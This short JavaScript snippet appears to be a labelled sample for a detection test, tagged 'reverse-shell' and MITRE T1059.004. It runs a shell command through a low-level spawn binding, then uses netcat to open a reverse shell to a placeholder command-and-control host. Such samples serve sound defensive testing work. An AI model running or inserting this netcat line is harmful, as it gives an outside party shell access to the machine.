// expect: reverse-shell | source: T1059.004
const { spawn } = process.binding("spawn_sync");
spawn({ file: "/bin/sh", args: ["sh", "-c", "id"] });
require("child_process").exec("nc c2.example.invalid 4444 -e /bin/sh");
